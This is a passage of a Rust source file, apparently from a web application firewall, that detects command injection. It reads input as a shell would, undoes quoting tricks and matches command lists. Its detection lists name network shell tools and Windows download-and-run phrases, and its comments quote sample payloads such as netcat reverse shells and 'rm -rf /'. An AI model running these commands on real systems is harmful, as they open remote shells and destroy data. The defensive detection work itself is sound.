//! Command injection: a small shell-aware scan, not a pile of regexes.
//!
//! The value is read the way a shell would split it: command positions are the start of the
//! value and whatever follows a separator (`;`, `|`, `&`, a newline, `$(`, a backtick, `{`).
//! The word at a command position is de-obfuscated the way the shell would (quotes and
//! backslashes inside it removed: `c'a't` is `cat`, `/bin/c\at` is `cat`), and is an attack if
//! it names a known command. Where only a line break comes before it, the word is a weak
//! signal, scored with the rest of its line ([`line`]): prose starts lines with such words.
//! Substitution, `$IFS`-style evasions, direct interpreter or network
//! tool invocations and Windows `cmd`/PowerShell syntax have rules of their own; cmd.exe's
//! commands and an `echo` into a script file are read by [`cmd`].

use super::anchor::{longest_piece, Anchors};
use super::wordset::WordSet;
use super::{
    Lowered, Rule, RCE_CHAINED_COMMAND, RCE_SHELL_EVASION, RCE_SHELL_INVOCATION, RCE_SUBSTITUTION,
    RCE_WINDOWS,
};
#[cfg(test)]
use super::{RCE_COMMAND_LINE, RCE_SHELL_EXPANSION};
use cmd::{
    echo_writes_script, windows_arguments, windows_command, windows_shaped, within, ARGUMENT_REACH,
    WINDOWS_COMMAND_SET,
};
use std::borrow::Cow;

mod cmd;
pub(crate) use cmd::WINDOWS_COMMANDS;
mod line;
mod sentence;

/// Commands an injected payload runs that are not English words: matched at any command
/// position.
pub(crate) const COMMANDS: [&str; 261] = [
    "whoami",
    "uname",
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "bash",
    "zsh",
    "ksh",
    "csh",
    "tcsh",
    "dash",
    "busybox",
    "python",
    "python2",
    "python3",
    "perl",
    "php",
    "ruby",
    "lua",
    "node",
    "nodejs",
    "nslookup",
    "chmod",
    "chown",
    "chgrp",
    "killall",
    "pkill",
    "printenv",
    "grep",
    "egrep",
    "awk",
    "gawk",
    "sed",
    "xargs",
    "telnet",
    "ssh",
    "scp",
    "ftp",
    "tftp",
    "base64",
    "xxd",
    "nohup",
    "crontab",
    "sudo",
    "passwd",
    "useradd",
    "ifconfig",
    "netstat",
    "systemctl",
    "reboot",
    "shutdown",
    "mkfifo",
    "mknod",
    "gcc",
    "tar",
    "whereis",
    "hostname",
    "lsof",
    "socat",
    "openssl",
    "sftp",
    "ls",
    "id",
    "pwd",
    "sh",
    "ps",
    "flock",
    "cpulimit",
    "gdb",
    "c89",
    "c99",
    "base32",
    "nmap",
    "tcpdump",
    "strace",
    "ltrace",
    "xterm",
    "expect",
    "docker",
    "kubectl",
    "mysql",
    "psql",
    "sqlite3",
    "rsync",
    "taskset",
    "ionice",
    "stdbuf",
    "tmux",
    "visudo",
    "chattr",
    "setfacl",
    "perf",
    "mawk",
    "nawk",
    "hexdump",
    "zip",
    "unzip",
    "gzip",
    "bzip2",
    "zcat",
    "bzcat",
    "split",
    "shuf",
    "nl",
    "tac",
    "rev",
    "iconv",
    "jjs",
    "jrunscript",
    "lwp-download",
    "aria2c",
    "axel",
    "scrot",
    "dmesg",
    "usermod",
    "groupadd",
    "nsenter",
    "unshare",
    "chroot",
    "setarch",
    "run-parts",
    "start-stop-daemon",
    "systemd-run",
    "pdksh",
    "mksh",
    "yash",
    "rbash",
    "irb",
    "rake",
    "pip",
    "npm",
    "gem",
    "pip3",
    "cscli",
    "aptitude",
    "htop",
    "rmt",
    "rmt-tar",
    "bcdboot",
    "ssh-copy-id",
    "bsdtar",
    // System administration and attack tools (names no sentence uses).
    "lsblk",
    "lscpu",
    "lsmod",
    "lspci",
    "lsusb",
    "lsattr",
    "journalctl",
    "userdel",
    "groupdel",
    "getent",
    "sysctl",
    "iptables",
    "ip6tables",
    "modprobe",
    "insmod",
    "rmmod",
    "dpkg",
    "apt-get",
    "apt-cache",
    "javac",
    "rustc",
    "sshpass",
    "proxychains",
    "msfconsole",
    "msfvenom",
    "sqlmap",
    "nikto",
    "masscan",
    "tshark",
    "ifup",
    "ifdown",
    "iwconfig",
    "traceroute",
    "getfacl",
    "setcap",
    "getcap",
    "pkexec",
    "runuser",
    "md5sum",
    "sha1sum",
    "sha256sum",
    "sha512sum",
    "cksum",
    "gpg",
    "ssh-keygen",
    "ssh-keyscan",
    "lynx",
    "w3m",
    "elinks",
    "lwp-request",
    "pydoc",
    "jshell",
    "tclsh",
    "runghc",
    "rscript",
    "byobu",
    "setsid",
    "atq",
    "atrm",
    "chkconfig",
    "update-rc.d",
    "telinit",
    "poweroff",
    "kexec",
    "fuser",
    "pidof",
    "pgrep",
    "renice",
    "chrt",
    "ulimit",
    "umask",
    "mktemp",
    "shred",
    "fallocate",
    "losetup",
    "mkfs",
    "fdisk",
    "blkid",
    "umount",
    "swapon",
    "xclip",
    "xsel",
    "xdotool",
    "ping6",
    "arping",
    "hping3",
    "ngrep",
    "iftop",
    "nethogs",
    "ethtool",
    "iwlist",
    "hostnamectl",
    "timedatectl",
    "loginctl",
    "adduser",
    "deluser",
    "addgroup",
    "chpasswd",
    "chsh",
    "lsb_release",
    "nproc",
    "getconf",
    "zgrep",
    "xzcat",
    "unxz",
    "unrar",
    "7za",
    "zstd",
    "objdump",
    "readelf",
    "ldd",
    "lldb",
    "podman",
    "crictl",
    "virsh",
    "vagrant",
    "terraform",
    "gcloud",
];

/// Commands that are also subjects of ordinary text (languages, well-known tools, names).
const TOPICS: [&str; 17] = [
    "axel", "python", "python2", "python3", "perl", "php", "ruby", "lua", "node", "nodejs",
    "docker", "kubectl", "mysql", "psql", "gcc", "ssh", "zip",
];

/// Families of tools named `<family>-<verb>` (`ansible-playbook`, `chef-client`).
pub(crate) const COMMAND_FAMILIES: [&str; 2] = ["ansible", "chef"];

/// Commands that run the command that follows them (`nohup ifconfig`, `time whoami`).
const WRAPPERS: [&str; 10] = [
    "time", "nohup", "sudo", "strace", "ltrace", "nice", "timeout", "env", "xargs", "watch",
];

/// [`COMMANDS`], [`WORD_COMMANDS`], [`TOPICS`] and [`WRAPPERS`] as sets: every word at a
/// command position and every quoted word is looked up, so a lookup must not walk the lists.
static COMMAND_SET: WordSet = WordSet::new(&COMMANDS);
static WORD_COMMAND_SET: WordSet = WordSet::new(&WORD_COMMANDS);
static TOPIC_SET: WordSet = WordSet::new(&TOPICS);
static WRAPPER_SET: WordSet = WordSet::new(&WRAPPERS);

/// Whether `name` is a known command, a member of a command family, or `ansible` itself.
fn is_command(name: &str) -> bool {
    COMMAND_SET.contains(name)
        || WINDOWS_COMMAND_SET.contains(name)
        || COMMAND_FAMILIES.iter().any(|f| {
            name == *f
                || name
                    .strip_prefix(f)
                    .and_then(|r| r.strip_prefix('-'))
                    .is_some_and(|verb| {
                        !verb.is_empty() && verb.bytes().all(|b| b.is_ascii_lowercase())
                    })
        })
}

/// Commands that are also English words (`head`, `sleep`, `cat`): matched only when what
/// follows looks like shell arguments (an option, a path, a number, a variable) or nothing.
const WORD_COMMANDS: [&str; 23] = [
    "cat", "tac", "head", "tail", "more", "less", "find", "host", "sleep", "touch", "kill", "env",
    "dig", "ping", "which", "eval", "exec", "printf", "tee", "rm", "cp", "mv", "ll",
];

/// Commands that are English words or names too (`date`, `column`, `sort`): matched only
/// with an option after them (`;date --file x`, `| sort -u`).
const OPTION_COMMANDS: [&str; 22] = [
    "date", "column", "fold", "comm", "cut", "sort", "uniq", "wc", "diff", "od", "strings",
    "paste", "file", "stat", "du", "df", "who", "uptime", "free", "echo", "ln", "mkdir",
];

static OPTION_COMMAND_SET: WordSet = WordSet::new(&OPTION_COMMANDS);

/// Interpreters and tools that, invoked with these flags, run arbitrary code or open a shell.
const INVOCATIONS: [&str; 12] = [
    "sh -c",
    "bash -c",
    "ksh -c",
    "zsh -c",
    "dash -c",
    "nc -e",
    "ncat -e",
    "python -c",
    "perl -e",
    "php -r",
    "ruby -e",
    "/dev/tcp/",
];

/// Windows shell syntax.
const WINDOWS: [&str; 20] = [
    "cmd /c",
    "cmd.exe",
    "cmd /k",
    "powershell",
    "pwsh",
    "iex(",
    "iex ",
    "iwr ",
    "invoke-expression",
    "invoke-webrequest",
    "%comspec%",
    "certutil -urlcache",
    "bitsadmin",
    "wmic ",
    "for /f",
    "rundll32",
    // PowerShell's WMI cmdlets by their aliases (`iwmi -class Win32_Process -name Create`).
    "iwmi ",
    "gwmi ",
    "invoke-wmimethod",
    // The registry editor with a switch (`regedit /e file key`, `regedit /s x.reg`).
    "regedit /",
];

/// The command-injection rules that match a decoded value, at paranoia level 1.
pub fn detect(decoded: &[u8]) -> Vec<Rule> {
    detect_with(&Lowered::new(decoded), 1, true)
}

/// [`detect`] on a value's shared lowercase copy, with its prechecks on or off (off only to
/// check that they change nothing: every check then runs on every value).
pub(crate) fn detect_with(value: &Lowered, paranoia: u8, prechecks: bool) -> Vec<Rule> {
    let text = value.lower();
    let mut out = Vec::new();
    // Substitution is `<(`, `>(`, `$(` or a pair of backticks.
    if text.contains(['(', '`']) && has_substitution(text) {
        out.push(RCE_SUBSTITUTION);
    }
    let positions = command_positions(text);
    // A command where a line starts is a weak signal ([`line`]): those are scored together
    // once no other command position named a command.
    let mut line_starts: Vec<usize> = Vec::new();
    if distinct_starts(text, &positions, is_command_lead).any(|start| {
        if !names_command(text.get(start..).unwrap_or_default()) {
            return false;
        }
        if line::is_line_start(text, start) {
            if line_starts.len() < line::MOST_LINES {
                line_starts.push(start);
            }
            return false;
        }
        true
    }) || line::score(text, &line_starts) >= line::threshold(paranoia)
        || starts_with_command_and_option(text)
        || runs_assigned_variable(text, &positions)
        || (text.contains('.') && has_sqlite_dot_command(text, &positions))
        || (text.contains("bin/") && runs_binary_path(text))
    {
        out.push(RCE_CHAINED_COMMAND);
    }
    // Every evasion needs one of these: a glob's `[`, `$` (`$IFS`, `$((`, `$[`, `$@`, `$9`),
    // a brace expansion's `{`, a quote or backslash inside a word, or an empty substitution
    // (two backticks, or `()` in `$()`, `<()`, `>()`), or a wildcard path's `?`.
    if (!prechecks
        || text.contains(['[', '$', '{', '\'', '"', '\\', '`', '?'])
        || text.contains("()"))
        && has_shell_evasion(text, prechecks)
    {
        out.push(RCE_SHELL_EVASION);
    }
    // Squeezing only turns blank runs into one blank: a piece without blanks found in the
    // squeezed copy stands in `text` as well. Every invocation has an option (`-c`, `-e`,
    // `-r`: a `-` alone, as in `item-12` or `2-pack`, is not enough) or is `/dev/tcp/`; a fork
    // bomb or a Shellshock definition opens with `()`. Every Windows phrase has one of
    // [`WINDOWS_ANCHORS`].
    let invocation_possible = !prechecks
        || ["-c", "-e", "-r", "/dev/tcp/", "()"]
            .iter()
            .any(|piece| text.contains(piece));
    let windows_possible = !prechecks || WINDOWS_ANCHORS.found_in(text.as_bytes());
    if !invocation_possible && !windows_possible {
        return out;
    }
    let squeezed = squeeze_spaces(text);
    if invocation_possible
        && (INVOCATIONS.iter().any(|i| squeezed.contains(i))
            || has_fork_bomb(&squeezed)
            || has_netcat_exec(&squeezed))
    {
        out.push(RCE_SHELL_INVOCATION);
    }
    if windows_possible
        && (WINDOWS.iter().any(|w| squeezed.contains(w))
            || has_windows_if(&squeezed)
            || has_windows_for(&squeezed)
            || has_windows_if_test(&squeezed))
    {
        out.push(RCE_WINDOWS);
    }
    out
}

/// A variable run as a command after the value set it: `garb=adduse[r];$garb pizza`,
/// `a=nc&&$a -nlvp 555` (prose does not assign a name and then put `$name` where a command
/// starts).
fn runs_assigned_variable(text: &str, positions: &[usize]) -> bool {
    // The names assigned (`name=` where a word starts), at most a few, found in one pass.
    const MOST: usize = 16;
    let mut assigned: Vec<(usize, &str)> = Vec::new();
    for (i, _) in text.match_indices('=') {
        let before = text.get(..i).unwrap_or_default();
        let name = before
            .get(
                before
                    .trim_end_matches(|c: char| c.is_ascii_alphanumeric() || c == '_')
                    .len()..,
            )
            .unwrap_or_default();
        // A command or a path is assigned (`a=nc`, `p=/bin/sh`, `c='id'`), not a number.
        let value = text.get(i + 1..).unwrap_or_default();
        if name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
            && value.starts_with(|c: char| c.is_ascii_alphabetic() || matches!(c, '/' | '\'' | '"'))
        {
            assigned.push((i, name));
            if assigned.len() == MOST {
                break;
            }
        }
    }
    if assigned.is_empty() {
        return false;
    }
    positions.iter().any(|&start| {
        let rest = text
            .get(start..)
            .unwrap_or_default()
            .trim_start_matches([' ', '\t']);
        let word = rest.get(..word_end(rest)).unwrap_or_default();
        if only_expansions(word) != Some(1) {
            return false;
        }
        let name = word
            .trim_start_matches('$')
            .trim_start_matches('{')
            .trim_end_matches('}');
        assigned.iter().any(|&(at, n)| at < start && n == name)
    })
}

/// SQLite shell dot commands where an injected line starts: `;\n.databases`,
/// `1;.\"shell whoami` (`.shell` and `.system` run a command; the others read or write
/// the database's files). A line break written as `\n` counts, since it is one to SQLite's
/// input. A sentence does not start with `.tables` after a `;`.
fn has_sqlite_dot_command(text: &str, positions: &[usize]) -> bool {
    const DOT_COMMANDS: [&str; 19] = [
        "shell",
        "system",
        "databases",
        "tables",
        "schema",
        "fullschema",
        "dump",
        "import",
        "output",
        "once",
        "load",
        "open",
        "read",
        "backup",
        "restore",
        "clone",
        "dbinfo",
        "indexes",
        "excel",
    ];
    // Where the last position's blanks ended: a position inside them reaches the same line
    // (a run of line breaks is read once, not once per break).
    let mut reached: Option<usize> = None;
    positions
        .iter()
        .filter(|&&p| p > 0 && matches!(text.as_bytes().get(p - 1), Some(b';' | b'\n' | b'\r')))
        .any(|&p| {
            if reached.is_some_and(|r| p <= r) {
                return false;
            }
            let mut rest = text.get(p..).unwrap_or_default();
            loop {
                let trimmed = rest
                    .trim_start_matches([' ', '\t', '\n', '\r'])
                    .trim_start_matches("\\n")
                    .trim_start_matches("\\r");
                if trimmed.len() == rest.len() {
                    break;
                }
                rest = trimmed;
            }
            reached = Some(text.len() - rest.len());
            let Some(command) = rest.strip_prefix('.') else {
                return false;
            };
            let command = command.trim_start_matches(['"', '\'', '\\']);
            let name_len = command.len()
                - command
                    .trim_start_matches(|c: char| c.is_ascii_lowercase())
                    .len();
            let name = command.get(..name_len).unwrap_or_default();
            DOT_COMMANDS.contains(&name)
                && command.get(name_len..).is_none_or(|r| {
                    r.is_empty() || r.starts_with([' ', '\t', '\n', '\r', '"', '\'', '\\', ';'])
                })
        })
}

/// A program run by its path in a `bin` directory: `/bin/cat`, `/usr/sbin/visudo`,
/// `bin/chef` where a value starts. Only known commands: `/bin/ab` is left to
/// [`detect_level2`].
fn runs_binary_path(text: &str) -> bool {
    text.match_indices("bin/").any(|(i, _)| {
        let before = text.get(..i).unwrap_or_default();
        let before = before.strip_suffix('s').unwrap_or(before);
        if !(before.is_empty() || before.ends_with('/')) {
            return false;
        }
        let rest = text.get(i + 4..).unwrap_or_default();
        let end = rest
            .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.')))
            .unwrap_or(rest.len());
        let name = rest.get(..end).unwrap_or_default();
        let after = rest.get(end..).unwrap_or_default();
        after.chars().next().is_none_or(|c| {
            c.is_ascii_whitespace() || matches!(c, ';' | '|' | '&' | '\'' | '"' | ')' | '`')
        }) && (is_command(name)
            || WORD_COMMAND_SET.contains(name)
            || OPTION_COMMAND_SET.contains(name))
    })
}

/// Netcat handing a shell to the network with options between: `nc 10.0.0.1 6666 -e sh`,
/// `ncat -lvp 4444 -e /bin/bash` (`nc -e` right after the name is in [`INVOCATIONS`]).
fn has_netcat_exec(squeezed: &str) -> bool {
    ["nc ", "ncat ", "netcat "].iter().any(|tool| {
        squeezed.match_indices(tool).any(|(i, _)| {
            let starts_word = squeezed
                .get(..i)
                .and_then(|b| b.chars().last())
                .is_none_or(|c| !(c.is_ascii_alphanumeric() || c == '_' || c == '-'));
            // (A command line is short: no more than 256 bytes of it are read, which keeps a
            // value of many `nc ` linear.)
            let line = squeezed.get(i + tool.len()..).unwrap_or_default();
            let mut cut = line.len().min(256);
            while !line.is_char_boundary(cut) {
                cut -= 1;
            }
            let line = line
                .get(..cut)
                .unwrap_or_default()
                .split([';', '|', '&', '\n'])
                .next()
                .unwrap_or_default();
            starts_word
                && line.match_indices("-e ").any(|(e, _)| {
                    let program = line
                        .get(e + 3..)
                        .unwrap_or_default()
                        .split([' ', '\'', '"'])
                        .next()
                        .unwrap_or_default();
                    let is_shell = |p: &str| {
                        matches!(
                            p,
                            "sh" | "bash"
                                | "zsh"
                                | "ksh"
                                | "dash"
                                | "cmd"
                                | "cmd.exe"
                                | "powershell"
                        )
                    };
                    // `c:\windows\system32\cmd.exe`, and `sh\n` with a line break written out.
                    is_shell(program.rsplit(['/', '\\']).next().unwrap_or(program))
                        || is_shell(
                            program
                                .split('\\')
                                .next()
                                .and_then(|p| p.rsplit('/').next())
                                .unwrap_or(program),
                        )
                })
        })
    })
}

/// Commands (of [`COMMANDS`], three letters or more) that are also words, names or settings a
/// value may start with (`curl` of hair, `gzip` as a compression setting, `xterm` as a
/// terminal type), or names of form fields: [`starts_with_command_name`] leaves them out.
const PROSE_COMMANDS: [&str; 36] = [
    "expect", "split", "rev", "gem", "rake", "perf", "tar", "dash", "flock", "reboot", "shutdown",
    "hostname", "curl", "base64", "base32", "gzip", "bzip2", "unzip", "rsync", "openssl", "ssh",
    "scp", "sftp", "ftp", "tftp", "telnet", "xterm", "aptitude", "pwd", "pip", "nodejs", "node",
    "tac", "mawk",
    // Field names: a form's `uname=…` has the name as a value of its own.
    "uname", "passwd",
];

static PROSE_COMMAND_SET: WordSet = WordSet::new(&PROSE_COMMANDS);

/// The paranoia-2 command-injection rules: shell forms that prose, code or settings also
/// have. `whole_values`: the value is one (a field, a header), not a URL path, so that what it
/// starts with is what a program would get. Runs on plain text too (`visudo`, `ansible-doc
/// plugin ping` are plain), before the plain shortcut; `prechecks` off only to check that
/// they change nothing.
#[cfg(test)]
pub fn detect_level2(decoded: &[u8], whole_values: bool, prechecks: bool) -> Vec<Rule> {
    let mut out = Vec::new();
    if whole_values && starts_with_command_name(decoded) {
        out.push(RCE_COMMAND_LINE);
    }
    if shell_expansion(decoded, prechecks) {
        out.push(RCE_SHELL_EXPANSION);
    }
    out
}

/// `rce-008`: a parameter, brace, directory-stack or history expansion, or a program run by
/// its path in a system `bin` directory.
pub(crate) fn shell_expansion(decoded: &[u8], prechecks: bool) -> bool {
    // Every expansion below holds one of these: `{` (of `${` too), `~` (before `+` or `-`),
    // `!-`, `bin/`.
    let possible = !prechecks
        || decoded.windows(2).any(|w| w == b"!-")
        || decoded.contains(&b'{')
        || decoded.contains(&b'~')
        || decoded.windows(4).any(|w| w.eq_ignore_ascii_case(b"bin/"));
    possible && {
        let text = String::from_utf8_lossy(decoded).to_ascii_lowercase();
        has_parameter_expansion(&text)
            || has_any_brace_expansion(&text)
            || has_directory_stack(&text)
            || has_history_expansion(&text)
            || runs_any_binary_path(&text)
    }
}

/// A value that starts with a known command (`whoami;…`, `visudo`, `chef-shell`,
/// `cscli alerts list`, `pip3 install x`), other than two-letter ones (`id`, `ls`), tools
/// people write about ([`TOPICS`]) and [`PROSE_COMMANDS`]; names that begin sentences too
/// (`sed`, `chef`, `lynx`) only with their command's arguments ([`sentence`]). An article about `nmap` starting
/// with its name is flagged: the price of level 2.
pub(crate) fn starts_with_command_name(decoded: &[u8]) -> bool {
    let start = decoded
        .iter()
        .position(|b| !matches!(b, b' ' | b'\t' | b'\r' | b'\n' | b'\'' | b'"'))
        .unwrap_or(decoded.len());
    let rest = decoded.get(start..).unwrap_or_default();
    // A command name is short: a longer first word is no command, and reading it stops there.
    let end = rest
        .iter()
        .take(48)
        .position(|b| {
            b.is_ascii_whitespace()
                || matches!(b, b';' | b'|' | b'&' | b'<' | b'>' | b'(' | b'`' | b',')
        })
        .unwrap_or(rest.len().min(48));
    let Some(word) = rest.get(..end) else {
        return false;
    };
    if end == 48 || !word.iter().any(u8::is_ascii_alphabetic) {
        return false;
    }
    let word = String::from_utf8_lossy(word).to_ascii_lowercase();
    let word = shell_word(&word);
    let name = word.rsplit('/').next().unwrap_or(&word);
    // Names that begin sentences too (`sed de aventura`) need their command's arguments.
    let args = rest.get(end..).unwrap_or_default();
    let args =
        String::from_utf8_lossy(args.get(..ARGUMENT_REACH).unwrap_or(args)).to_ascii_lowercase();
    let known = |name: &str| {
        name.len() >= 3
            && is_command(name)
            && !TOPIC_SET.contains(name)
            && !PROSE_COMMAND_SET.contains(name)
            && (!sentence::begins_sentences(name) || sentence::has_argument_shape(name, &args))
    };
    // `net view`, `sc query`: a Windows command by its subcommand, nothing more needed in a
    // whole value at this level (`dir` alone is left out: a folder field's value).
    let windows = matches!(name, "net" | "sc")
        && rest.get(end..).is_some_and(|args| {
            let args = args.get(..ARGUMENT_REACH).unwrap_or(args);
            windows_command(
                name,
                &String::from_utf8_lossy(args).to_ascii_lowercase(),
                false,
            ) == Some(true)
        });
    known(name) || known(without_version(name)) || windows
}

/// `${name}` or `${name…}` with an operator (`${cmd}`, `${x#{}}`, `${path:-/bin}`): a shell's
/// parameter expansion, and a template's placeholder too.
fn has_parameter_expansion(text: &str) -> bool {
    text.match_indices("${").any(|(i, _)| {
        let rest = text.get(i + 2..).unwrap_or_default();
        let name = rest.len()
            - rest
                .trim_start_matches(|c: char| c.is_ascii_alphanumeric() || c == '_')
                .len();
        rest.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
            && rest
                .get(name..)
                .is_some_and(|r| r.starts_with(['}', ':', '#', '%', '/', '^', ',', '@']))
    })
}

/// Any brace expansion, whatever it makes: a list `{a,b}`, `{,x}` or a sequence `{1..9}`,
/// `{a..z}`, with no blank, quote or colon inside (JSON objects and templates have them;
/// set notation in prose has not: level 2), and not a regular expression's quantifier.
fn has_any_brace_expansion(text: &str) -> bool {
    let bytes = text.as_bytes();
    text.match_indices('{').any(|(i, _)| {
        // (Short: at most 64 bytes are read after each `{`.)
        let rest = bytes.get(i + 1..).unwrap_or_default();
        let Some(end) = rest.iter().take(64).position(|&b| {
            b == b'}' || b == b'{' || b.is_ascii_whitespace() || matches!(b, b'"' | b'\'' | b':')
        }) else {
            return false;
        };
        if rest.get(end) != Some(&b'}') || end == 0 {
            return false;
        }
        let inner = text.get(i + 1..i + 1 + end).unwrap_or_default();
        let sequence = inner.split_once("..").is_some_and(|(a, b)| {
            let end_ok = |s: &str| {
                s.bytes().all(|c| c.is_ascii_digit()) && !s.is_empty()
                    || (s.len() == 1 && s.bytes().all(|c| c.is_ascii_alphabetic()))
            };
            end_ok(a) && end_ok(b)
        });
        // A regular expression's quantifier (`[a-z]{1,5}`, `x{2,}`) is digits around one
        // comma: not read as a list.
        let quantifier = inner.matches(',').count() == 1
            && inner.bytes().all(|c| c.is_ascii_digit() || c == b',');
        sequence || (inner.contains(',') && !quantifier)
    })
}

/// The directory stack by tilde: `~+`, `~-`, `~+2`, `~-1` as a word (`~0` and `~5` are
/// "about" in prose, and left alone).
fn has_directory_stack(text: &str) -> bool {
    text.match_indices('~').any(|(i, _)| {
        let starts_word = text
            .get(..i)
            .and_then(|b| b.chars().last())
            .is_none_or(|c| {
                c.is_ascii_whitespace()
                    || matches!(c, ';' | '|' | '&' | '=' | '(' | '`' | '\'' | '"')
            });
        let rest = text.get(i + 1..).unwrap_or_default();
        let Some(after_sign) = rest.strip_prefix(['+', '-']) else {
            return false;
        };
        let after = after_sign.trim_start_matches(|c: char| c.is_ascii_digit());
        starts_word
            && after.chars().next().is_none_or(|c| {
                c.is_ascii_whitespace()
                    || matches!(c, '/' | ';' | '|' | '&' | ')' | '`' | '\'' | '"')
            })
    })
}

/// History expansion by a negative event number: `!-1`, `!-2:p` (`!!` is prose's emphasis).
fn has_history_expansion(text: &str) -> bool {
    text.match_indices("!-").any(|(i, _)| {
        let starts_word = text
            .get(..i)
            .and_then(|b| b.chars().last())
            .is_none_or(|c| {
                c.is_ascii_whitespace()
                    || matches!(c, ';' | '|' | '&' | '=' | '!' | '`' | '\'' | '"' | '(')
            });
        starts_word
            && text
                .get(i + 2..)
                .is_some_and(|r| r.starts_with(|c: char| c.is_ascii_digit()))
    })
}

/// Any program by its path in a `bin` directory where a word starts: `/bin/ab`,
/// `/usr/sbin/anything` ([`runs_binary_path`] covers known commands at level 1).
fn runs_any_binary_path(text: &str) -> bool {
    text.match_indices("bin/").any(|(i, _)| {
        // The system directories are short: only the 32 bytes before `bin/` are read (a
        // value of many `bin/` stays linear).
        let mut from = i.saturating_sub(32);
        while !text.is_char_boundary(from) {
            from += 1;
        }
        let before = text.get(from..i).unwrap_or_default();
        let before = before.strip_suffix('s').unwrap_or(before);
        let dir_start = before
            .rfind(|c: char| {
                c.is_ascii_whitespace()
                    || matches!(c, ';' | '|' | '&' | '=' | '\'' | '"' | '`' | '(')
            })
            .map_or(0, |p| p + 1);
        let dirs = before.get(dir_start..).unwrap_or_default();
        // `bin/` where a word starts, or after system directories only: `/bin/`, `/usr/bin/`,
        // `/usr/local/sbin/` (not `/recycle/bin/`, `/trash-bin/`).
        let system = matches!(dirs, "" | "/" | "/usr/" | "/usr/local/" | "/opt/local/");
        let rest = text.get(i + 4..).unwrap_or_default();
        let end = rest
            .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.')))
            .unwrap_or(rest.len());
        system
            && end > 0
            && rest
                .get(end..)
                .and_then(|r| r.chars().next())
                .is_none_or(|c| {
                    c.is_ascii_whitespace() || matches!(c, ';' | '|' | '&' | '\'' | '"' | ')' | '`')
                })
    })
}

/// A piece of each [`WINDOWS`] phrase (the longest between blanks), and `if` and `for`,
/// which every `if`/`for` construct ([`has_windows_if`], [`has_windows_if_test`],
/// [`has_windows_for`]) starts with.
static WINDOWS_ANCHORS: Anchors = Anchors::new(|| {
    WINDOWS
        .iter()
        .map(|w| longest_piece(w))
        .chain(["if", "for"])
        .collect()
});

/// Offsets where a shell would expect a command: after `;`, `|`, `&`, a newline, `` ` ``,
/// `$(`, `{`, `(`. The start of the value is not one: a plain word there is ordinary input.
fn command_positions(text: &str) -> Vec<usize> {
    let bytes = text.as_bytes();
    let mut out = Vec::new();
    for (i, b) in bytes.iter().enumerate() {
        let separator = match b {
            b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' | b'{' => true,
            b'(' => i > 0 && bytes.get(i - 1) == Some(&b'$'),
            _ => false,
        };
        if separator {
            out.push(i + 1);
        }
    }
    out
}

/// What may stand between a command position and the command's word: blanks, separators,
/// a subshell's `(`, a group's `{`, `!` and redirections. [`names_command`] skips it.
fn is_command_lead(b: u8) -> bool {
    b.is_ascii_whitespace() || matches!(b, b'&' | b'|' | b';' | b'(' | b'{' | b'!' | b'<' | b'>')
}

/// The command positions whose reading differs, each moved past the bytes `lead` accepts
/// there: positions inside the lead of an earlier one reach the same word, so they are left
/// out. A value of many separators (`;;;;…`, `&&&&…`, a run of line breaks) then costs a pass
/// over it, not one per position (a 64 KiB run was seconds of CPU).
fn distinct_starts<'a>(
    text: &'a str,
    positions: &'a [usize],
    lead: fn(u8) -> bool,
) -> impl Iterator<Item = usize> + 'a {
    let bytes = text.as_bytes();
    let mut reached: Option<usize> = None;
    positions.iter().filter_map(move |&p| {
        if reached.is_some_and(|r| p <= r) {
            return None;
        }
        let skipped = bytes
            .get(p..)
            .unwrap_or_default()
            .iter()
            .take_while(|&&b| lead(b))
            .count();
        reached = Some(p + skipped);
        Some(p)
    })
}

/// Whether the word at the start of `rest` (after blanks, quotes, redirections) names a known
/// command once de-obfuscated. A path prefix is allowed: `/bin/cat`, `/usr/bin/id`.
fn names_command(rest: &str) -> bool {
    names_command_at(rest, false)
}

/// [`names_command`]; `behind_expansion`: the word follows a variable at the command
/// position (`$u wget x`, `;$a cat notes.txt`), where a word command needs no shell-like
/// arguments to be one (a sentence does not put `$a` before its verb).
fn names_command_at(rest: &str, behind_expansion: bool) -> bool {
    let mut rest = rest.trim_start_matches(|c: char| c.is_ascii() && is_command_lead(c as u8));
    // `. file`, the shell's `source`, runs what follows it: `;. rm -rf /`.
    while let Some(sourced) = rest.strip_prefix(". ") {
        rest = sourced.trim_start_matches([' ', '\t']);
    }
    let end = word_end(rest);
    let raw_word = rest.get(..end).unwrap_or_default();
    let args = rest.get(end..).unwrap_or_default();
    // A word of variables only: `$c1$c2$c3` builds the command from pieces set before;
    // `$a -nlvp 555` and `$u wget x` run an option or a command behind a variable.
    if let Some(count) = only_expansions(raw_word) {
        let after = args.trim_start_matches([' ', '\t']);
        return count >= 2
            || is_option(after)
            || (!behind_expansion && names_command_at(after, true));
    }
    if is_contraction(raw_word) {
        return false;
    }
    let word = without_quotes(raw_word);
    let word = word.trim_start_matches('$');
    let name = word.rsplit('/').next().unwrap_or(word);
    let name = name.split(['$', '{']).next().unwrap_or(name);
    if command_with_arguments(name, args, behind_expansion) {
        return true;
    }
    // The same word with its evasions undone (`n$u\c$u`, `${x}gcc7.4`) and a version
    // glued to the name dropped (`gcc10.1`, `python3.8`).
    let cleaned = shell_word(raw_word);
    let cleaned_name = cleaned.rsplit('/').next().unwrap_or(&cleaned);
    (cleaned_name != name && command_with_arguments(cleaned_name, args, behind_expansion))
        || without_version(cleaned_name) != cleaned_name
            && is_command(without_version(cleaned_name))
}

/// Where the word at the start of `rest` ends: at a blank, a separator, a redirection, a
/// closing `)` or `}` or a comma (of a brace expansion). A `${…}` inside the word is part of
/// it (`${x}gcc`), and so is an empty substitution glued into it (`ping$()`, `pi<()ng`,
/// two backticks), which [`shell_word`] drops.
fn word_end(rest: &str) -> usize {
    let bytes = rest.as_bytes();
    // The next `}` at or after where it was last looked for (`None`: none within reach): the
    // bytes are searched once, not once per `${`.
    let mut close: Option<Option<usize>> = None;
    let mut i = 0;
    while let Some(&b) = bytes.get(i) {
        // A command word is short: reading no further than [`WORD_REACH`] keeps a value of
        // many command positions (a run of backticks) linear. (Cut at a character boundary.)
        if i >= WORD_REACH && rest.is_char_boundary(i) {
            return i;
        }
        let next = bytes.get(i + 1).copied();
